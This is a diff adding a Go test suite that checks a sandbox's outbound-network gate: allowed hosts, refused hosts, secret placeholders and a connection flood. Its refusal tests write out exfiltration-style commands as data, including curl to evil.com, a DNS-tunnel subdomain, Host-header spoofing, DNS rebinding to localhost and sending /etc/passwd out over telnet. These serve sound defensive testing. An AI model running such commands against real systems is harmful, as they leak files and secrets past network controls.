@@ -1,0 +1,268 @@
+package drivertest
+
+import (
+	"bufio"
+	"context"
+	_ "embed"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/berth-run/berth/egress"
+	"github.com/berth-run/berth/guest"
+	"github.com/berth-run/berth/sandbox/driver"
+)
+
+// outside is what a sandbox may try to reach: hosts that are served by the test,
+// at addresses that look public.
+type outside struct {
+	gate   *egress.Gate
+	trust  []byte
+	secret egress.Secret
+
+	mu    sync.Mutex
+	flows []egress.Flow
+	asked map[string]bool // names that were looked up
+}
+
+const (
+	outsideAddr = "93.184.216.34"
+	secretValue = "the-real-value-5f0c1d"
+	// secretPattern matches it, and not itself where a command is kept.
+	secretPattern = "the-real-valu[e]-5f0c1d"
+)
+
+func newOutside(t *testing.T) *outside {
+	t.Helper()
+	o := &outside{asked: map[string]bool{}, secret: egress.Secret{Domain: "api.example.com", Name: "API_KEY", Value: secretValue, Placeholder: egress.NewPlaceholder("API_KEY")}}
+	echo := func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, "host=%s key=%s right=%v\n", r.Host, r.Header.Get("X-Key"), r.Header.Get("X-Key") == secretValue)
+	}
+	plain, secure := httptest.NewServer(http.HandlerFunc(echo)), httptest.NewTLSServer(http.HandlerFunc(echo))
+	t.Cleanup(plain.Close)
+	t.Cleanup(secure.Close)
+	ports := map[int]string{80: plain.Listener.Addr().String(), 443: secure.Listener.Addr().String(), 5432: greeter(t)}
+
+	var rules []egress.Rule
+	for _, s := range []string{"example.com", "api.example.com", "db.example.com:5432", "inside.example.com"} {
+		r, err := egress.ParseRule(s)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rules = append(rules, r)
+	}
+	ca, err := egress.NewAuthority("test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	o.trust = append(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: secure.Certificate().Raw}), ca.PEM()...)
+	o.gate = &egress.Gate{Policy: &egress.Policy{Rules: rules}, Secrets: []egress.Secret{o.secret}, CA: ca,
+		Roots: secure.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs,
+		Record: func(f egress.Flow) {
+			o.mu.Lock()
+			defer o.mu.Unlock()
+			o.flows = append(o.flows, f)
+		},
+		Lookup: func(_ context.Context, name string) ([]netip.Addr, error) {
+			o.mu.Lock()
+			defer o.mu.Unlock()
+			o.asked[name] = true
+			if name == "inside.example.com" { // its owner's DNS leads to this machine
+				return []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("10.0.0.1")}, nil
+			}
+			return []netip.Addr{netip.MustParseAddr(outsideAddr)}, nil
+		},
+		Dial: func(ctx context.Context, a netip.AddrPort) (net.Conn, error) {
+			if a.Addr().String() != outsideAddr {
+				return nil, errors.New("an address inside was dialled")
+			}
+			return new(net.Dialer).DialContext(ctx, "tcp", ports[int(a.Port())])
+		}}
+	return o
+}
+
+// greeter speaks first, as databases do.
+func greeter(t *testing.T) string {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer conn.Close()
+				io.WriteString(conn, "ready\n")
+				line, _ := bufio.NewReader(conn).ReadString('\n')
+				io.WriteString(conn, "echo "+line)
+			}()
+		}
+	}()
+	return l.Addr().String()
+}
+
+// connect gives the sandbox its way out, and waits until it has it.
+func (o *outside) connect(t *testing.T, b *Box) {
+	t.Helper()
+	connected := make(chan error, 64)
+	go b.Client.Outward(t.Context(), o.gate, guest.Network{Authorities: o.trust, Environment: map[string]string{o.secret.Name: o.secret.Placeholder}},
+		func(err error) {
+			select {
+			case connected <- err:
+			default:
+			}
+		})
+	select {
+	case err := <-connected:
+		if err != nil {
+			t.Fatalf("the way out: %v", err)
+		}
+	case <-time.After(30 * time.Second):
+		t.Fatal("the guest does not take its way out")
+	}
+}
+
+// refusal waits for a flow to a host that was refused, and returns why.
+func (o *outside) refusal(t *testing.T, host string) string {
+	t.Helper()
+	for end := time.Now().Add(10 * time.Second); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
+		o.mu.Lock()
+		for _, f := range o.flows {
+			if f.Target.Host == host && !f.Allowed {
+				o.mu.Unlock()
+				return f.Reason
+			}
+		}
+		o.mu.Unlock()
+	}
+	t.Errorf("no refusal of %s was recorded", host)
+	return ""
+}
+
+//go:embed out.py
+var outScript string
+
+// egress tries every way out of a sandbox that may reach a few names.
+func (s *suite) egress(t *testing.T) {
+	if s.features.Network {
+		t.Skip("skipped: sandboxes of this driver have a network of their own")
+	}
+	o := newOutside(t)
+	d := s.open(t)
+	b := Start(t, d, driver.Spec{ID: "outward", Rootfs: s.Rootfs})
+	o.connect(t, b)
+	t.Run("Allowed", func(t *testing.T) { o.allowed(t, b) })
+	t.Run("Refused", func(t *testing.T) { o.refused(t, b) })
+	t.Run("Secrets", func(t *testing.T) { o.secrets(t, b) })
+	t.Run("Flood", func(t *testing.T) { o.flood(t, b) })
+	t.Run("AnotherServer", func(t *testing.T) {
+		b.Client.Close()
+		again := Attach(t, d, "outward")
+		if r := again.Sh("curl -sS -m 5 http://example.com/"); r.Code == 0 {
+			t.Errorf("without a keeper: got %+v", r)
+		}
+		o.connect(t, again)
+		o.allowed(t, again)
+	})
+}
+
+func (o *outside) allowed(t *testing.T, b *Box) {
+	for script, want := range map[string]string{
+		"curl -sS http://example.com/":                                                            "host=example.com key= right=false",
+		"curl -sS https://example.com/":                                                           "host=example.com key= right=false",
+		"python3 -c 'import socket; print(socket.gethostbyname(\"EXAMPLE.com\"))'":                "127.8.",
+		"exec 3<>/dev/tcp/db.example.com/5432; read -u 3 a; echo hi >&3; read -u 3 b; echo $a $b": "ready echo hi",
+	} {
+		if r := b.Sh(script); r.Code != 0 || !strings.HasPrefix(r.Stdout, want) {
+			t.Errorf("%s: got %+v, want %q", script, r, want)
+		}
+	}
+}
+
+func (o *outside) refused(t *testing.T, b *Box) {
+	for script, host := range map[string]string{
+		"curl -sS -m 20 https://evil.com/":                                              "evil.com",
+		"curl -sS -m 20 http://c2VjcmV0.data.evil.com/":                                 "c2vjcmv0.data.evil.com",
+		"getent hosts sub.example.com":                                                  "sub.example.com",
+		"curl -sS -m 20 -k --connect-to evil.com:443:example.com:443 https://evil.com/": "example.com",
+		"curl -sS -m 20 -f -H 'Host: evil.com' http://example.com/":                     "example.com",
+		"curl -sS -m 20 -f http://inside.example.com/":                                  "inside.example.com",
+		"curl -sS -m 20 -f telnet://example.com:443 </etc/passwd":                       "example.com",
+	} {
+		for _, who := range []string{"", "sudo "} {
+			if r := b.Sh(who + script); r.Code == 0 && strings.Contains(r.Stdout, "host=") {
+				t.Errorf("%s%s: got %+v", who, script, r)
+			}
+		}
+		o.refusal(t, host)
+	}
+	for name := range o.asked {
+		if strings.Contains(name, "evil") || name == "sub.example.com" {
+			t.Errorf("the name %s was looked up outside", name)
+		}
+	}
+	if err := b.Client.WriteFile(t.Context(), "/mnt/data", "out.py", "", strings.NewReader(outScript)); err != nil {
+		t.Fatal(err)
+	}
+	for _, who := range []string{"", "sudo "} {
+		if r := b.Sh(who + "python3 out.py " + outsideAddr); r.Stdout != "done\n" {
+			t.Errorf("%sout.py: got %+v, want only done", who, r)
+		}
+	}
+}
+
+func (o *outside) secrets(t *testing.T, b *Box) {
+	if got := b.Must("echo $API_KEY"); got != o.secret.Placeholder {
+		t.Errorf("the variable holds %q", got)
+	}
+	if got := b.Must(`curl -sS -H "X-Key: $API_KEY" https://api.example.com/`); got != "host=api.example.com key="+o.secret.Placeholder+" right=true" {
+		t.Errorf("toward its host: got %q", got)
+	}
+	if got := b.Must(`curl -sS -H "X-Key: $API_KEY" https://example.com/`); !strings.HasSuffix(got, "right=false") {
+		t.Errorf("toward another host: got %q", got)
+	}
+	if got := b.Must("sudo grep -rl '" + secretPattern + "' /proc/*/environ /etc /mnt /run /tmp 2>/dev/null | wc -l"); got != "0" {
+		t.Errorf("the value is in %s places of the sandbox", got)
+	}
+}
+
+// flood opens more connections than a sandbox may have. The guest goes on, and
+// so does the way out when they are closed.
+func (o *outside) flood(t *testing.T, b *Box) {
+	r := b.ShTimeout(`python3 - <<'EOF'
+import socket
+open_ = []
+for i in range(10000):
+    try:
+        open_.append(socket.create_connection(("example.com", 443), 5))
+    except OSError:
+        break
+print("stopped")
+EOF`, 2*time.Minute)
+	if !strings.HasSuffix(r.Stdout, "stopped\n") {
+		t.Errorf("got %+v", r)
+	}
+	b.Answers()
+	for end := time.Now().Add(time.Minute); ; time.Sleep(100 * time.Millisecond) {
+		r := b.Sh("curl -sS -m 5 http://example.com/")
+		if strings.HasPrefix(r.Stdout, "host=") {
+			return
+		}
+		if time.Now().After(end) {
+			t.Fatalf("after the flood: got %+v", r)
+		}
+	}
+}
